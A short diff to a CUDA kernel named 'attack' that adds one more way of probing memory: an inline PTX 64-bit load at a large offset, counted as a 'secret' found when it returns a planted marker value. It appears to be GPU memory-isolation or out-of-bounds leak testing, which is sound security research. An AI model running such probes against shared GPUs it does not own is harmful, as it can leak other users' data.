@@ -13,7 +13,7 @@
 
 constexpr unsigned long long MARK = 0xbadc0ffee0ddf00dull;
 constexpr unsigned long long SLOTS_BEGIN = 0x200000000000ull, SLOT_BYTES = 512ull << 30, GIB = 1ull << 30;
-constexpr int WAYS = 12;
+constexpr int WAYS = 13;
 
 struct Findings {
     unsigned long long loads, secrets;
@@ -43,6 +43,7 @@ __device__ __forceinline__ void attack(unsigned long long at, int way, unsigned 
     case 8: asm volatile("st.global.u32 [%0+8388604], %1;" ::"l"(at), "r"(mark) : "memory"); break;
     case 9: asm volatile("ld.global.u64 %0, [%1+-8388608];" : "=l"(wide) : "l"(at) : "memory"); break;
     case 10: asm volatile("st.global.u32 [%0+2147483640], %1;" ::"l"(at), "r"(mark) : "memory"); break;
+    case 11: asm volatile("ld.global.u64 %0, [%1+8388600];" : "=l"(wide) : "l"(at) : "memory"); break;
     default:
         asm volatile("ld.global.v4.u32 {%0, %1, %2, %3}, [%4];"
                      : "=r"(word), "=r"(word1), "=r"(word2), "=r"(word3)
@@ -52,7 +53,7 @@ __device__ __forceinline__ void attack(unsigned long long at, int way, unsigned 
         second = static_cast<unsigned long long>(word3) << 32 | word2;
         break;
     }
-    if (way == 4 || way == 5 || way == 7 || way == 9 || way == 11) atomicAdd(&findings->loads, 1ull);
+    if (way == 4 || way == 5 || way == 7 || way == 9 || way >= 11) atomicAdd(&findings->loads, 1ull);
     if (wide == secret || second == secret) atomicAdd(&findings->secrets, 1ull);
 }
 
